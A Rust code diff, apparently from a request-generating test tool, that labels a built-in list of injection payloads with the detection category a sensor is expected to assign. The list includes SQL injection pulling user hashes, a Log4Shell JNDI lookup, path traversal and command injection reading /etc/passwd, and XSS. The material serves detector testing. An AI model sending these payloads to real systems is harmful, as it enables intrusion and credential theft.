@@ -1,6 +1,6 @@
 //! Twists: what attackers put into bodies that no form asks for.
 
-use model::{Charset, Field, KeyPaths, Pseudonyms, ValueKind};
+use model::{Charset, Field, KeyPaths, Pseudonyms, Sign, Signs, ValueKind};
 
 use super::{FIELDS_MAX, Made};
 use crate::{plan::Value, world::Make};
@@ -24,19 +24,25 @@ pub(crate) enum Twist {
     Type(u8),
 }
 
-/// Texts that mean something to what lies behind a service.
-pub(crate) const INJECTIONS: [&str; 10] = [
-    "' OR '1'='1' --",
-    "1; SELECT pg_sleep(5)--",
-    "{$ne: null}",
-    "{{7*7}}",
-    "${jndi:ldap://x.example/a}",
-    "../../../../etc/passwd",
-    "<script>alert(1)</script>",
-    "`id`; cat /etc/passwd",
-    "' UNION SELECT login, hash FROM users --",
-    "%00/../admin",
+/// Texts that mean something to what lies behind a service, and what the sensor takes them for.
+const INJECTIONS: [(&str, Option<Sign>); 10] = [
+    ("' OR '1'='1' --", Some(Sign::Sql)),
+    ("1; SELECT pg_sleep(5)--", Some(Sign::Sql)),
+    ("{$ne: null}", None),
+    ("{{7*7}}", Some(Sign::Template)),
+    ("${jndi:ldap://x.example/a}", Some(Sign::Template)),
+    ("../../../../etc/passwd", Some(Sign::Traversal)),
+    ("<script>alert(1)</script>", Some(Sign::Script)),
+    ("`id`; cat /etc/passwd", Some(Sign::Command)),
+    ("' UNION SELECT login, hash FROM users --", Some(Sign::Sql)),
+    ("%00/../admin", None),
 ];
+
+/// One of them.
+fn injection(which: u8) -> (&'static str, Signs) {
+    let (text, sign) = INJECTIONS[usize::from(which) % INJECTIONS.len()];
+    (text, sign.map(Signs::from).unwrap_or_default())
+}
 
 /// Members that no plan has.
 pub(super) fn members(names: &Pseudonyms, mut written: u32, made: &mut Made) {
@@ -48,7 +54,8 @@ pub(super) fn members(names: &Pseudonyms, mut written: u32, made: &mut Made) {
         made.put(b"\":");
         made.sum = made.sum.wrapping_add(paths.share(KeyPaths::member(paths.root(), name.as_bytes())));
         let (kind, charset) = (ValueKind::Null, Charset::default());
-        let field = Field { name: name.into(), kind, length: 0, charset, magnitude: 0 };
+        let signs = Signs::default();
+        let field = Field { name: name.into(), kind, length: 0, charset, magnitude: 0, signs };
         (made.fields.len() < FIELDS_MAX).then(|| {
             made.fields.push(field);
             made.fields.len() - 1
@@ -83,9 +90,10 @@ pub(super) fn scalar(make: &Make, field: Option<usize>, made: &mut Made) -> bool
             made.scalar(field, value, |out| out.extend((0..bytes).map(|_| b'a')));
         }
         Twist::Inject(which) if !matches!(make, Make::Bool) => {
-            let text = INJECTIONS[usize::from(which) % INJECTIONS.len()];
+            let (text, signs) = injection(which);
             let value = Value::text(u32::try_from(text.len()).unwrap_or(0), Charset::of(text.as_bytes()).0);
             made.scalar(field, value, |out| out.extend_from_slice(text.as_bytes()));
+            made.sign(field, signs);
         }
         Twist::Type(0) => {
             let value = Value {
@@ -109,10 +117,13 @@ pub(super) fn scalar(make: &Make, field: Option<usize>, made: &mut Made) -> bool
 }
 
 /// What stands in place of a parameter, if something does, and its text.
-pub(super) fn parameter(make: &Make, made: &mut Made, text: &mut Vec<u8>) -> Option<Value> {
+pub(super) fn parameter(make: &Make, made: &mut Made, text: &mut Vec<u8>) -> Option<(Value, Signs)> {
+    let mut signs = Signs::default();
     let value = match made.twist {
         Twist::Inject(which) if !matches!(make, Make::Bool) => {
-            text.extend_from_slice(INJECTIONS[usize::from(which) % INJECTIONS.len()].as_bytes());
+            let (found, signs_of) = injection(which);
+            text.extend_from_slice(found.as_bytes());
+            signs = signs_of;
             Value::text(0, 0)
         }
         Twist::Long(bytes) => {
@@ -127,5 +138,5 @@ pub(super) fn parameter(make: &Make, made: &mut Made, text: &mut Vec<u8>) -> Opt
     };
     made.twist = Twist::None;
     let length = u32::try_from(text.len()).unwrap_or(0);
-    Some(Value { length, charset: Charset::of(text).0, ..value })
+    Some((Value { length, charset: Charset::of(text).0, ..value }, signs))
 }
